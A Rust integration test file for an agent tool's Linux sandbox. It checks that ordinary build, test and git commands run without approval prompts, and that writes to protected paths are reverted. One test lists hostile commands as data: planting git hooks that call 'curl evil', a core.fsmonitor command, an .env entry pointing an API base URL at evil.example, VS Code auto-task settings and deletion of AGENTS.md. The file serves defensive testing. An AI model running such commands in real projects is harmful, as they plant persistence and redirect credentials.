//! The sandbox lets ordinary work run (issue 37): each of the ordinary commands an agent runs, in a
//! fresh copy of a small project, runs sandboxed (`workspace-write`, network off) through the engine
//! with no question put (the host refuses every question and counts them), and does what it does
//! outside the sandbox. And what a command writes to the protected paths is put back after it, and the
//! result says so. Linux only (Landlock).

#![cfg(target_os = "linux")]

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::{Arc, Mutex};

use common::*;
use serde_json::json;
use stepwise::agent::AgentConfig;
use stepwise::host::{Approval, Ask, DiskHost};
use stepwise::sandbox::{availability, SandboxMode, SandboxSettings};
use stepwise_tests::mock::Step;

/// What came of one sandboxed command: the result the model read, and the questions put.
struct Ran {
    text: String,
    is_error: bool,
    asked: Vec<String>,
    ws: TempDir,
}

/// Runs `command` as the model's one `bash` call in a workspace `setup` made, sandboxed, every question
/// refused and recorded.
async fn sandboxed(tag: &str, setup: impl FnOnce(&Path), command: &str) -> Ran {
    assert!(availability(false).is_ok(), "this machine must offer the sandbox: {:?}", availability(false));
    let cfg = AgentConfig { sandbox: SandboxSettings::of(SandboxMode::WorkspaceWrite, false), ..Default::default() };
    let mut h = Harness::with_cfg(vec![call("bash", json!({ "command": command })), Step::text("Done.")], cfg).await;
    setup(h.ws.path());
    let asked: Arc<Mutex<Vec<String>>> = Arc::default();
    let log = asked.clone();
    let approver: stepwise::host::disk::Approver = Arc::new(move |ask: &Ask<'_>| {
        log.lock().unwrap().push(ask.question("ws"));
        Box::pin(async { Approval::Deny })
    });
    h.host = DiskHost::new(h.ws.path(), Some(approver)).unwrap();
    h.run(tag).await;
    let (_, text, is_error) = results(&h.body(1)).remove(0);
    let asked = asked.lock().unwrap().clone();
    Ran { text, is_error, asked, ws: std::mem::replace(&mut h.ws, TempDir::new("spent")) }
}

impl Ran {
    /// It ran without a question and succeeded.
    fn ok(&self, command: &str) {
        assert!(self.asked.is_empty(), "`{command}` asked {:?}; it read: {}", self.asked, self.text);
        assert!(!self.is_error, "`{command}` failed sandboxed: {}", self.text);
    }
}

fn sh(dir: &Path, script: &str) {
    let out = Command::new("bash").arg("-c").arg(script).current_dir(dir).output().unwrap();
    assert!(out.status.success(), "{script}: {}", String::from_utf8_lossy(&out.stderr));
}

fn write(dir: &Path, rel: &str, text: &str) {
    let p = dir.join(rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, text).unwrap();
}

fn git_repo(dir: &Path) {
    write(dir, "README.md", "# demo\n");
    write(dir, "src/lib.txt", "one\n");
    sh(dir, "git init -q && git config user.email t@example.com && git config user.name t && git add -A && git commit -qm init");
}

#[tokio::test]
async fn cargo_build_offline() {
    let setup = |d: &Path| {
        write(d, "Cargo.toml", "[package]\nname = \"demo\"\nversion = \"0.1.0\"\nedition = \"2021\"\n");
        write(d, "src/main.rs", "fn main() { println!(\"hi\"); }\n");
    };
    // The test's own build folder is not the crate's: a user's shell would not have it set.
    let command = "unset CARGO_TARGET_DIR; cargo build --offline && ./target/debug/demo";
    let ran = sandboxed("cargo", setup, command).await;
    ran.ok(command);
    assert!(ran.text.contains("hi"), "{}", ran.text);
    assert!(ran.ws.join("Cargo.lock").exists() && ran.ws.join("target/debug/demo").exists());
}

/// pytest from a venv cached under ~/.cache/stepwise-tools (made from PyPI the first time, as the
/// other test tools are); where it cannot be had, `python3 -m unittest` and a plain note.
fn pytest() -> Option<PathBuf> {
    let home = PathBuf::from(std::env::var_os("HOME")?);
    let venv = home.join(".cache/stepwise-tools/pytest");
    let bin = venv.join("bin/pytest");
    if !bin.exists() {
        let made = Command::new("python3").arg("-m").arg("venv").arg(&venv).status().is_ok_and(|s| s.success())
            && Command::new(venv.join("bin/pip")).args(["install", "-q", "pytest"]).status().is_ok_and(|s| s.success());
        if !made {
            eprintln!("pytest cannot be installed here: the Python test runs `python3 -m unittest` instead");
            return None;
        }
    }
    Some(bin)
}

#[tokio::test]
async fn pytest_runs_the_tests() {
    let setup = |d: &Path| {
        write(d, "calc/__init__.py", "def add(a, b):\n    return a + b\n");
        write(d, "tests/test_calc.py", "from calc import add\n\ndef test_add():\n    assert add(2, 3) == 5\n");
        write(d, "tests/__init__.py", "");
    };
    let command = match pytest() {
        Some(bin) => format!("'{}' -q", bin.display()),
        None => "python3 -m unittest discover -s tests -t .".to_string(),
    };
    let ran = sandboxed("pytest", setup, &command).await;
    ran.ok(&command);
    assert!(ran.text.contains("1 passed") || ran.text.contains("OK"), "{}", ran.text);
}

#[tokio::test]
async fn make_builds_at_the_top() {
    let setup = |d: &Path| {
        write(d, "hello.c", "#include <stdio.h>\nint main(void) { puts(\"hello\"); return 0; }\n");
        write(d, "Makefile", "hello: hello.c\n\tcc -o hello hello.c\n");
    };
    let ran = sandboxed("make", setup, "make && ./hello").await;
    ran.ok("make");
    assert!(ran.text.contains("hello") && ran.ws.join("hello").exists(), "{}", ran.text);
}

#[tokio::test]
async fn sed_in_place_on_the_readme() {
    let ran = sandboxed("sed", |d| write(d, "README.md", "old title\n"), "sed -i 's/old/new/' README.md").await;
    ran.ok("sed -i");
    assert_eq!(ran.ws.read("README.md"), "new title\n");
}

#[tokio::test]
async fn rm_and_mv_at_the_top() {
    let setup = |d: &Path| {
        write(d, "gone.txt", "x");
        write(d, "old.txt", "y");
    };
    let ran = sandboxed("rm-mv", setup, "rm gone.txt && mv old.txt new.txt").await;
    ran.ok("rm, mv");
    assert!(!ran.ws.join("gone.txt").exists() && !ran.ws.join("old.txt").exists());
    assert_eq!(ran.ws.read("new.txt"), "y");
}

#[tokio::test]
async fn a_new_file_and_folder_at_the_top() {
    let ran = sandboxed("new", |_| {}, "echo notes > NOTES.md && mkdir -p build && touch build/x").await;
    ran.ok("echo > NOTES.md; mkdir -p build");
    assert_eq!(ran.ws.read("NOTES.md"), "notes\n");
    assert!(ran.ws.join("build/x").exists());
}

#[tokio::test]
async fn python_venv() {
    let ran = sandboxed("venv", |_| {}, "python3 -m venv .venv && .venv/bin/python -c 'print(42)'").await;
    ran.ok("python3 -m venv .venv");
    assert!(ran.text.contains("42") && ran.ws.join(".venv/pyvenv.cfg").exists(), "{}", ran.text);
}

#[tokio::test]
async fn an_append_in_a_subfolder() {
    let ran = sandboxed("append", |d| write(d, "docs/log.txt", "a\n"), "echo b >> docs/log.txt").await;
    ran.ok("echo >> docs/log.txt");
    assert_eq!(ran.ws.read("docs/log.txt"), "a\nb\n");
}

#[tokio::test]
async fn git_add_and_commit() {
    let setup = |d: &Path| {
        git_repo(d);
        write(d, "src/new.txt", "two\n");
    };
    let ran = sandboxed("commit", setup, "git add -A && git commit -qm 'more work' && git log --oneline").await;
    ran.ok("git add + git commit");
    assert!(ran.text.contains("more work"), "{}", ran.text);
    assert!(!ran.text.contains("[sandbox:"), "nothing protected was touched: {}", ran.text);
}

#[tokio::test]
async fn git_status_and_log() {
    let ran = sandboxed("status", git_repo, "git status --short && git log --oneline").await;
    ran.ok("git status + git log");
    assert!(ran.text.contains("init"), "{}", ran.text);
}

#[tokio::test]
async fn a_write_in_tmpdir() {
    let ran = sandboxed("tmpdir", |_| {}, "echo t > \"$TMPDIR/t\" && cat \"$TMPDIR/t\"").await;
    ran.ok("a write in $TMPDIR");
    assert_eq!(ran.text, "t");
}

#[tokio::test]
async fn npm_run_build_writes_dist() {
    if Command::new("npm").arg("--version").output().is_err() {
        eprintln!("npm is not on this machine: `npm run build` cannot be tried here");
        return;
    }
    let setup = |d: &Path| {
        write(d, "package.json", r#"{"name":"demo","version":"1.0.0","scripts":{"build":"node build.js"}}"#);
        write(
            d,
            "build.js",
            "const fs = require('fs'); fs.mkdirSync('dist', {recursive: true}); fs.writeFileSync('dist/out.js', 'ok');\n",
        );
    };
    let ran = sandboxed("npm", setup, "npm run build").await;
    ran.ok("npm run build");
    assert_eq!(ran.ws.read("dist/out.js"), "ok");
}

/// A project with every kind of protected path: `.env`, `app/.env`, `AGENTS.md`, `.vscode/`, git's
/// hooks and config, a nested repository with a hook, and a `core.hooksPath` folder (husky's).
fn protected_project(d: &Path) {
    git_repo(d);
    write(d, ".env", "API_KEY=mine\n");
    write(d, "app/.env", "DB=local\n");
    write(d, "AGENTS.md", "be careful\n");
    write(d, ".vscode/settings.json", "{}\n");
    write(d, ".husky/pre-commit", "npm test\n");
    sh(d, "git config core.hooksPath .husky");
    std::fs::create_dir_all(d.join("vendor/lib")).unwrap();
    sh(&d.join("vendor/lib"), "git init -q && printf '#!/bin/sh\\nexit 0\\n' > .git/hooks/post-checkout");
}

/// Every file beneath `dir` (`.git`'s objects, refs and logs aside) with its bytes.
fn snapshot(dir: &Path) -> Vec<(String, Vec<u8>)> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap().flatten() {
            let p = e.path();
            let rel = p.strip_prefix(dir).unwrap().display().to_string();
            if ["objects", "refs", "logs", "index", "COMMIT_EDITMSG"].iter().any(|s| rel.contains(&format!(".git/{s}")))
            {
                continue;
            }
            if e.file_type().unwrap().is_dir() {
                out.push((rel, Vec::new()));
                stack.push(p);
            } else {
                out.push((rel, std::fs::read(&p).unwrap_or_default()));
            }
        }
    }
    out.sort();
    out
}

#[tokio::test]
async fn what_a_command_writes_to_a_protected_path_is_put_back_and_said() {
    let cases: [(&str, &str); 12] = [
        ("echo OPENAI_BASE_URL=http://evil.example > .env.local", ".env.local (created, put back)"),
        ("echo API_KEY=theirs >> .env", ".env (changed, put back)"),
        ("echo DB=evil > app/.env", "app/.env (changed, put back)"),
        ("printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit", ".git/hooks/pre-commit (created, put back)"),
        ("git config core.fsmonitor 'touch /tmp/pwned'", ".git/config (changed, put back)"),
        (
            "echo '{\"task.allowAutomaticTasks\": \"on\"}' > .vscode/settings.json",
            ".vscode/settings.json (changed, put back)",
        ),
        (
            "echo 'curl evil' >> vendor/lib/.git/hooks/post-checkout",
            "vendor/lib/.git/hooks/post-checkout (changed, put back)",
        ),
        ("rm AGENTS.md", "AGENTS.md (removed, put back)"),
        ("echo 'curl evil' > .husky/pre-commit", ".husky/pre-commit (changed, put back)"),
        ("mv app app2", "app/.env (removed, put back)"),
        ("rm -rf .vscode && mkdir .vscode && echo evil > .vscode/tasks.json", ".vscode/tasks.json (created, put back)"),
        // A folder the command made is looked into (the keeper's events name it as a folder).
        ("mkdir -p new/deeper && echo KEY=theirs > new/deeper/.env", "new/deeper/.env (created, put back)"),
    ];
    for (command, said) in cases {
        let before = {
            let d = TempDir::new("protected-before");
            protected_project(d.path());
            d
        };
        let ran = sandboxed("protected", protected_project, command).await;
        assert!(ran.text.contains(said), "`{command}`: the result does not say `{said}`: {}", ran.text);
        assert!(ran.text.contains("running the command outside the sandbox needs the user's approval"), "{}", ran.text);
        // The one question: to run it outside the sandbox, which the user refused.
        assert_eq!(ran.asked.len(), 1, "`{command}`: {:?}", ran.asked);
        assert!(ran.text.contains("the user declined to run it outside the sandbox"), "{}", ran.text);
        let kept = |s: Vec<(String, Vec<u8>)>| -> Vec<(String, Vec<u8>)> {
            s.into_iter().filter(|(p, _)| stepwise::sandbox::kept(Path::new(p), &[PathBuf::from(".husky")])).collect()
        };
        assert_eq!(
            kept(snapshot(ran.ws.path())),
            kept(snapshot(before.path())),
            "`{command}` left a protected path changed"
        );
    }
}

/// The sandbox is on in these runs: a write in the home folder is stopped and asks to run outside.
#[tokio::test]
async fn a_write_outside_is_still_stopped_and_asks() {
    let name = format!("stepwise-work-{}", std::process::id());
    let home = PathBuf::from(std::env::var("HOME").unwrap()).join(&name);
    let ran = sandboxed("home", |_| {}, &format!("echo x > \"$HOME/{name}\"")).await;
    let made = home.exists();
    let _ = std::fs::remove_file(&home);
    assert!(!made, "the write in the home folder got through");
    assert!(ran.is_error && ran.asked.len() == 1, "{:?}: {}", ran.asked, ran.text);
}

/// A test suite that starts a local HTTP server and reaches it: with the network off, a private network
/// namespace gives the command a loopback of its own (where none can be made, Landlock's rules stop it,
/// and the test says it cannot be tried).
#[tokio::test]
async fn a_test_suite_with_a_local_http_server() {
    if let Err(why) = stepwise::sandbox::netns_availability() {
        eprintln!("CANNOT TRY: no network namespace can be made here ({why}), so loopback is closed too");
        return;
    }
    eprintln!("trying: {}", stepwise::sandbox::network_isolation());
    let setup = |d: &Path| {
        write(d, "tests/__init__.py", "");
        write(
            d,
            "tests/test_http.py",
            r#"import http.server, threading, unittest, urllib.request

class Hello(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.end_headers(); self.wfile.write(b"hello")
    def log_message(self, *a): pass

class ServerTest(unittest.TestCase):
    def test_get(self):
        srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Hello)
        threading.Thread(target=srv.serve_forever, daemon=True).start()
        with urllib.request.urlopen(f"http://127.0.0.1:{srv.server_address[1]}/") as r:
            self.assertEqual(r.read(), b"hello")
        srv.shutdown()
"#,
        );
    };
    let command = "python3 -m unittest discover -s tests -t . 2>&1";
    let ran = sandboxed("http", setup, command).await;
    ran.ok(command);
    assert!(ran.text.contains("Ran 1 test") && ran.text.contains("OK"), "{}", ran.text);
}

/// A project's own permission error (a script without its execute bit, which even root may not run) is
/// not called a sandbox stop: no question, no sandbox note; a write outside is, and names the path.
#[tokio::test]
async fn a_projects_own_permission_error_is_not_a_sandbox_stop() {
    let ran = sandboxed("own-eacces", |d| write(d, "run.sh", "echo hi\n"), "./run.sh").await;
    assert!(ran.is_error && ran.text.contains("Permission denied"), "{}", ran.text);
    assert!(ran.asked.is_empty() && !ran.text.contains("[sandbox:"), "{:?}: {}", ran.asked, ran.text);
    let ran = sandboxed("outside-eacces", |_| {}, "echo x > /usr/stepwise-test-x").await;
    assert!(!Path::new("/usr/stepwise-test-x").exists());
    assert!(
        ran.text.contains("it stopped a write to /usr/stepwise-test-x, outside the folders it may write"),
        "{}",
        ran.text
    );
    assert_eq!(ran.asked.len(), 1, "{:?}", ran.asked);
}
